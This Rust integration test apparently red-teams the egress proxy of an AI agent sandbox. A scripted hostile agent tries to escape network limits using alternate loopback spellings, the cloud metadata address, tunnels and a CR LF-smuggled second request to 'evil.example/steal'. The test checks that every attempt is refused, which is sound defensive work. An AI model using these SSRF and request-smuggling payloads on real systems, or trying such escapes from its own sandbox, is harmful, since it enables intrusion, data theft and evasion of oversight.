//! Red-team attacks on the egress proxy (issue 30) end to end, against the real Docker engine: the
//! scripted agent in its `--network none` sandbox, as hostile as a script can be, asks stet's proxy
//! for hosts in spellings the rules never named and smuggles a second request behind an allowed
//! one. Proved by effect: loopback servers that must never be connected to, or must receive exactly
//! the one request stet checked.

use std::io::{Read, Write};
use std::net::{Ipv4Addr, TcpListener};
use std::sync::mpsc;
use std::time::Duration;

use stet_protocol::event::EventKind;
use stet_protocol::state::Phase;

use super::headless::{Project, docker_ready, run, scenario};

/// A server on the test's loopback that takes one connection, answers once the first request
/// head has arrived and closes its side, and keeps every byte it received until the proxy lets
/// go (or 60 s pass); each connection's bytes come back on the channel.
struct Keeper {
    port: u16,
    received: mpsc::Receiver<Vec<u8>>,
}

impl Keeper {
    fn start() -> Keeper {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
        let port = listener.local_addr().unwrap().port();
        let (sent, received) = mpsc::channel();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                let _ = stream.set_read_timeout(Some(Duration::from_secs(60)));
                let mut kept = Vec::new();
                let mut buffer = [0u8; 4096];
                let mut answered = false;
                while let Ok(read) = stream.read(&mut buffer) {
                    if read == 0 {
                        break;
                    }
                    kept.extend_from_slice(&buffer[..read]);
                    if !answered && kept.windows(4).any(|window| window == b"\r\n\r\n") {
                        answered = true;
                        let _ = stream.write_all(
                            b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok",
                        );
                        let _ = stream.shutdown(std::net::Shutdown::Write);
                    }
                }
                if sent.send(kept).is_err() {
                    return;
                }
            }
        });
        Keeper { port, received }
    }
}

impl Project {
    /// `[network]` in the user's configuration: `allow` and the loopback override (these servers
    /// are on loopback), as a person would write it for a local index.
    fn allow_hosts(&self, allow: &[String]) {
        let allow: Vec<String> = allow.iter().map(|rule| format!("{rule:?}")).collect();
        self.home.add_user_config(&format!(
            "\n[network]\nallow = [{}]\nallow_http = true\nloopback_for_tests = true\n",
            allow.join(", ")
        ));
    }
}

#[test]
fn a_hostile_agent_reaches_no_other_spelling_and_smuggles_no_second_request() {
    docker_ready();
    let allowed = Keeper::start();
    let never = Keeper::start();
    let q = never.port;
    let p = allowed.port;
    // The agent's `fetch` writes its URL into the request line as given, so a URL holding CR LF
    // pipelines a second request, naming another host, behind the allowed one.
    let smuggled = format!(
        "http://localhost:{p}/simple/ HTTP/1.1\\r\\nHost: localhost:{p}\\r\\n\\r\\nGET http://evil.example/steal HTTP/1.1\\r\\nHost: evil.example\\r\\nX-Pad: x"
    );
    let mut steps = vec![format!("fetch = {{ url = \"{smuggled}\" }}")];
    for host in [
        "127.0.0.1",
        "127.0.0.1.",
        "2130706433",
        "0x7f000001",
        "0X7F.0X0.0X0.0X1",
        "0177.0.0.1",
        "127.1",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "LOCALHOST.",
        "localhost",
        "169.254.169.254",
    ] {
        steps.push(format!("fetch = {{ url = \"http://{host}:{q}/\" }}"));
        steps.push(format!(
            "tunnel = {{ target = \"{host}:{q}\", upload = 10 }}"
        ));
    }
    steps.push("finish = \"Tried every way out.\"".to_owned());
    let lines: Vec<&str> = steps.iter().map(String::as_str).collect();
    let project = Project::new(&scenario(&lines));
    project.allow_hosts(&[format!("localhost:{p}")]);
    let finished = run(project.headless(&[]));
    assert_eq!(finished.code(), Some(0), "{finished:#?}");
    assert_eq!(finished.outcome().0, Phase::Done);

    // The allowed host received the one request stet checked, nothing after it.
    let received = allowed
        .received
        .recv_timeout(Duration::from_secs(90))
        .expect("the allowed host was never reached");
    let received = String::from_utf8_lossy(&received).into_owned();
    assert_eq!(
        received,
        format!("GET /simple/ HTTP/1.1\r\nHost: localhost:{p}\r\nConnection: close\r\n\r\n"),
        "the allowed host received more than the request stet checked"
    );
    // No other spelling of loopback, or of the metadata service, reached the other server.
    assert!(
        never.received.recv_timeout(Duration::from_secs(5)).is_err(),
        "a host no rule names was connected to"
    );
    let refused = finished
        .events
        .iter()
        .filter(|event| matches!(&event.kind, EventKind::Egress { allowed: false, .. }))
        .count();
    assert_eq!(refused, 26, "{:#?}", finished.events);
    finished.torn_down_cleanly();
}
